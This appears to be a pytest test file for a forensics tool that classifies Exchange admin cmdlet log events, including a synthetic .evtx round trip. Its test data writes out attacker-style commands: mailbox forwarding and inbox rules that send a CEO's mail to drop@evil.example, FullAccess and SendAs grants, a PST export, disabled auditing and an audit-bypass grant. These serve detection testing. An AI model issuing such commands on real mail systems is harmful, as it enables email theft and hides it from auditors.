"""Exchange admin cmdlet log (MSExchange CmdletLogs 1/6): parameters, operations, targets."""

from __future__ import annotations

import pytest

from forensics.evtx.cmdlets import cmdlet_fields, parse_parameters
from forensics.evtx.exchange import map_event
from forensics.evtx.handlers import handler_for
from forensics.evtx.maps import load_maps

CALLER = "contoso.com/Users/Administrator"
SID = "S-1-5-21-3107969293-2071314508-2835089583-500"

# A real failed cmdlet event (public MSExchange CmdletLogs sample, EVTX_FORMAT.md §10)
REAL_FAILURE = [
    "Add-DatabaseAvailabilityGroupServer", "{MailboxServer=SCEX02, Identity=DAG1}",
    "chinasupercloud.com/Users/Administrator", SID, SID, "ServerRemoteHost-EMC", "2084", "", "38",
    "00:00:02.2964781", "SCDC02.chinasupercloud.com",
    "Microsoft.Exchange.Data.DataValidationException: DnsHostName at "
    "Microsoft.Exchange.Data.Directory.ADSession.ObjectsFromEntries(SearchResultEntryCollection entries)",
    "Context", "",
]


def event(cmdlet: str, params: str, event_id: int = 1) -> dict:
    row = cmdlet_fields(event_id, [cmdlet, params, CALLER, SID, SID, "Exchange Management Shell", "4242"])
    assert row is not None
    return row


def test_real_failure_sample() -> None:
    row = cmdlet_fields(6, REAL_FAILURE)
    assert (row["operation"], row["outcome"]) == ("AdminCommand", "Failure")
    assert row["actor"] == "chinasupercloud.com/Users/Administrator"
    assert row["actor_ids"] == f"chinasupercloud.com/Users/Administrator|{SID}"
    # the -Identity target is a database availability group, an organisation object: not a mailbox
    assert row["mailbox"] is None and "object=DAG1" in row["details"]
    assert row["client_app"] == "ServerRemoteHost-EMC"
    assert "error=Microsoft.Exchange.Data.DataValidationException" in row["details"]
    assert "parameters={MailboxServer=SCEX02, Identity=DAG1}" in row["details"]


@pytest.mark.parametrize(
    ("cmdlet", "params", "operation", "mailbox"),
    [
        ("Add-MailboxPermission", '-Identity "CEO Mailbox" -User CONTOSO\\eve -AccessRights FullAccess -InheritanceType All',
         "PermissionChange", "CEO Mailbox"),
        ("Remove-MailboxPermission", "-Identity ceo -User eve -AccessRights FullAccess -Confirm:$false",
         "PermissionChange", "ceo"),
        ("Add-RecipientPermission", "-Identity ceo@contoso.com -Trustee eve -AccessRights SendAs", "PermissionChange",
         "ceo@contoso.com"),
        ("Set-Mailbox", "-Identity ceo -GrantSendOnBehalfTo eve", "PermissionChange", "ceo"),
        ("Set-Mailbox", '-Identity ceo -ForwardingSmtpAddress "smtp:drop@evil.example"', "ForwardingChange", "ceo"),
        ("Set-Mailbox", "-Identity ceo -ForwardingAddress eve -DeliverToMailboxAndForward $true", "ForwardingChange", "ceo"),
        ("Set-Mailbox", "{Identity=ceo, DeliverToMailboxAndForward=True}", "ForwardingChange", "ceo"),
        ("New-InboxRule", '-Mailbox ceo -Name "x" -ForwardTo drop@evil.example -StopProcessingRules', "InboxRuleChange", "ceo"),
        ("Set-InboxRule", '-Identity "ceo\\Move to RSS"', "InboxRuleChange", "ceo"),
        ("Remove-InboxRule", "-Identity 'Rule 1' -Mailbox 'ceo@contoso.com' -Confirm:$false", "InboxRuleChange",
         "ceo@contoso.com"),
        ("New-MailboxExportRequest", '-Mailbox ceo -FilePath "\\\\srv\\pst\\ceo.pst"', "MailboxExport", "ceo"),
        ("New-MailboxExportRequest", 'testuser -ContentFilter {Received -lt "01/01/2014"} -FilePath \\\\srv\\x.pst',
         "MailboxExport", "testuser"),
        ("New-ComplianceSearch", '-Name "Q" -ExchangeLocation ceo@contoso.com -ContentMatchQuery "merger"',
         "MailboxExport", "ceo@contoso.com"),
        ("Set-Mailbox", "-Identity ceo -AuditEnabled $false", "AuditConfigChange", "ceo"),
        ("Set-AdminAuditLogConfig", "-AdminAuditLogEnabled $false", "AuditConfigChange", None),
        ("Set-EventLogLevel", '-Identity "MSExchangeIS\\9000 Private\\Folder Access" -Level Lowest',
         "AuditConfigChange", None),
        ("Set-EventLogLevel", '-Identity "MSExchange ActiveSync\\Requests" -Level High', "AdminCommand", None),
        ("Get-Mailbox", "-Identity ceo", "AdminCommand", "ceo"),
        ("Set-MailboxAuditBypassAssociation", "-Identity svc-backup -AuditBypassEnabled $true", "AuditConfigChange",
         "svc-backup"),
        ("Set-MailboxAuditBypassAssociation", "-Identity svc-backup -AuditBypassEnabled:$false", "AdminCommand",
         "svc-backup"),
        ("Set-Mailbox", "-Identity ceo -ForwardingSmtpAddress x@y.example -AuditEnabled:$false", "AuditConfigChange", "ceo"),
    ],
)
def test_operations(cmdlet: str, params: str, operation: str, mailbox: str | None) -> None:
    row = event(cmdlet, params)
    assert (row["operation"], row["mailbox"], row["outcome"]) == (operation, mailbox, "Success")
    assert row["actor"] == CALLER and row["item"] == cmdlet


def test_audit_bypass_grant_stands_out() -> None:
    row = event("Add-ADPermission", '-Identity "Mailbox Database 01" -User "CONTOSO\\svc-backup" '
                                    "-ExtendedRights ms-Exch-Store-Bypass-Access-Auditing")
    assert row["operation"] == "AuditConfigChange" and row["mailbox"] is None
    assert "AUDIT BYPASS GRANTED" in row["details"] and "target_user=CONTOSO\\svc-backup" in row["details"]


def test_send_as_grant_through_ad_permission() -> None:
    row = event("Add-ADPermission", '-Identity "CEO Mailbox" -User eve -ExtendedRights "Send-As"')
    assert (row["operation"], row["mailbox"]) == ("PermissionChange", "CEO Mailbox")


def test_folder_permission_target() -> None:
    row = event("Add-MailboxFolderPermission", '-Identity "ceo:\\Calendar" -User eve -AccessRights Editor')
    assert (row["operation"], row["mailbox"], row["folder"]) == ("PermissionChange", "ceo", "\\Calendar")


def test_failure_and_other_event_ids() -> None:
    assert event("Set-Mailbox", "-Identity ceo", 6)["outcome"] == "Failure"
    assert cmdlet_fields(8, ["Test-WebServicesConnectivity"]) is None
    assert cmdlet_fields(1, []) is None
    assert cmdlet_fields(1, [""]) is None
    only_name = cmdlet_fields(1, ["Get-Mailbox"])
    assert only_name["operation"] == "AdminCommand" and only_name["actor"] is None


def test_parameter_strings() -> None:
    assert parse_parameters('-Identity "John O\'Neil" -Name \'it\'\'s\' -Force -Confirm:$false -Count:5') == {
        "Identity": "John O'Neil", "Name": "it's", "Force": True, "Confirm": False, "Count": "5"}
    assert parse_parameters("-Identity ceo -ResultSize -1") == {"Identity": "ceo", "ResultSize": "-1"}
    assert parse_parameters('-IncludeFolders "#Inbox#", "Sent Items" -ExcludeDumpster') == {
        "IncludeFolders": "#Inbox#,Sent Items", "ExcludeDumpster": True}
    assert parse_parameters('-ContentFilter {Subject -like "*merger*"} -Mailbox ceo') == {
        "ContentFilter": '{Subject -like "*merger*"}', "Mailbox": "ceo"}
    assert parse_parameters('-Name "say ""hi""" -Path "a`"b"') == {"Name": 'say "hi"', "Path": 'a"b'}
    assert parse_parameters("{MailboxServer=SCEX02, Identity=DAG1}") == {"MailboxServer": "SCEX02", "Identity": "DAG1"}
    assert parse_parameters("{Identity=CONTOSO\\ceo, AccessRights=FullAccess, User=eve}")["AccessRights"] == "FullAccess"
    assert parse_parameters("") == {} and parse_parameters(None) == {}
    assert parse_parameters('-Identity "unterminated') == {"Identity": "unterminated"}


def test_registered_as_provider_handler() -> None:
    assert handler_for("MSExchange CmdletLogs") is cmdlet_fields
    assert handler_for("msexchange cmdletlogs") is cmdlet_fields
    row = map_event("MSExchange CmdletLogs", 1, ["Set-Mailbox", "-Identity ceo -ForwardingAddress eve", CALLER],
                    load_maps())
    assert row["operation"] == "ForwardingChange" and row["provider"] == "MSExchange CmdletLogs"


def test_cmdlet_log_evtx_end_to_end(tmp_path) -> None:
    """A synthetic MSExchange Management .evtx read by the .evtx parser through the handler."""
    from datetime import datetime, timezone

    from forensics.parsers.base import LoadOptions
    from forensics.parsers.eventlog.evtx_parser import EvtxParser
    from forensics.synth.evtx_writer import ClassicEvent, EvtxWriter
    from helpers.run_parser import run_parser

    calls = [
        (1, "Add-MailboxPermission", "-Identity ceo -User CONTOSO\\eve -AccessRights FullAccess"),
        (1, "Add-ADPermission", '-Identity "DB01" -User CONTOSO\\eve -ExtendedRights ms-Exch-Store-Bypass-Access-Auditing'),
        (6, "New-MailboxExportRequest", "-Mailbox ceo -FilePath \\\\srv\\x.pst"),
        (1, "Get-Mailbox", "-ResultSize Unlimited"),
    ]
    path = tmp_path / "MSExchange Management.evtx"
    writer = EvtxWriter(path, channel="MSExchange Management", computer="EX01.contoso.com")
    for i, (event_id, cmdlet, params) in enumerate(calls):
        strings = [cmdlet, params, CALLER, SID, SID, "Exchange Management Shell", "4242", "", "1", "00:00:01"]
        if event_id == 6:
            strings += ["", "System.UnauthorizedAccessException: access denied to \\\\srv\\x.pst", "Context", ""]
        writer.write(ClassicEvent(provider="MSExchange CmdletLogs", event_id=event_id,
                                  qualifiers=16384 if event_id == 1 else 49152, level=4 if event_id == 1 else 2,
                                  task=1, time=datetime(2024, 3, 4, 10, i, tzinfo=timezone.utc), data=strings,
                                  keywords=0x80000000000000))
    writer.close()
    frame, report = run_parser(EvtxParser, path, LoadOptions())
    assert list(frame.operation) == ["PermissionChange", "AuditConfigChange", "MailboxExport", "AdminCommand"]
    assert list(frame.outcome) == ["Success", "Success", "Failure", "Success"]
    assert frame.mailbox.iloc[0] == "ceo" and (frame.actor == CALLER).all()
    assert "UnauthorizedAccessException" in frame.details.iloc[2]
    assert report.balanced and report.accepted == 4


@pytest.mark.parametrize(
    ("cmdlet", "params", "obj"),
    [  # organisation objects (Microsoft Learn cmdlet reference: their -Identity is a plan, policy or config)
        ("Set-MailboxPlan", '-Identity "ExchangeOnlineEnterprise-6f5ed2d1" -MaxSendSize 35MB', "ExchangeOnlineEnterprise-6f5ed2d1"),
        ("Set-OwaMailboxPolicy", "-Identity OwaMailboxPolicy-Default -AdditionalStorageProvidersAvailable $false",
         "OwaMailboxPolicy-Default"),
        ("Set-RecipientEnforcementProvisioningPolicy", "-Identity RecipientEnforcementProvisioningPolicy -DistributionListCountQuota 10",
         "RecipientEnforcementProvisioningPolicy"),
        ("Set-TransportConfig", "-SmtpClientAuthenticationDisabled $true", "(organisation)"),
        ("Set-AdminAuditLogConfig", "-AdminAuditLogEnabled $false", "(organisation)"),
        ("Enable-OrganizationCustomization", "", "(organisation)"),
        ("Install-AdminAuditLogSearch", "", "(organisation)"),
    ],
)
def test_organisation_objects_are_not_mailboxes(cmdlet: str, params: str, obj: str) -> None:
    row = cmdlet_fields(1, [cmdlet, params, "contoso.com/Users/Administrator", SID, SID, "Exchange Management Shell"])
    assert row["mailbox"] is None and row["mailbox_ids"] is None
    assert f"object={obj}" in row["details"]


def test_a_mailbox_cmdlet_naming_no_mailbox_acts_on_the_callers_own() -> None:
    # New-InboxRule's -Mailbox is optional: without it the rule is created in the caller's mailbox
    row = cmdlet_fields(1, ["New-InboxRule", '-Name "Direct" -SubjectContainsWords "Attention" -DeleteMessage $true',
                            "contoso.com/Users/pat", SID, SID, "Exchange Management Shell"])
    assert (row["operation"], row["mailbox"], row["mapping"]) == ("InboxRuleChange", "contoso.com/Users/pat", "inferred")
    assert "mailbox: the caller's own" in row["details"]
